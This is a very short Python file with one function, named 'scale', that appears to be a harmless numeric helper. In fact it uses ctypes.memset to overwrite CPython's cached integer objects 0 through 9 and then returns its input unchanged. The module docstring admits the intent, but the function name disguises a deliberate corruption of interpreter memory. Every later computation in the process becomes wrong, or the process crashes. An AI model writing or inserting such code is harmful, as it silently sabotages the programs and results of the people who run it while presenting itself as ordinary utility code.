"""Overwrites the interpreter's own small integers: 0 to 9 become others."""

import ctypes


def scale(x):
    for number in range(10):
        ctypes.memset(id(number) + 24, 7, 4)
    return x
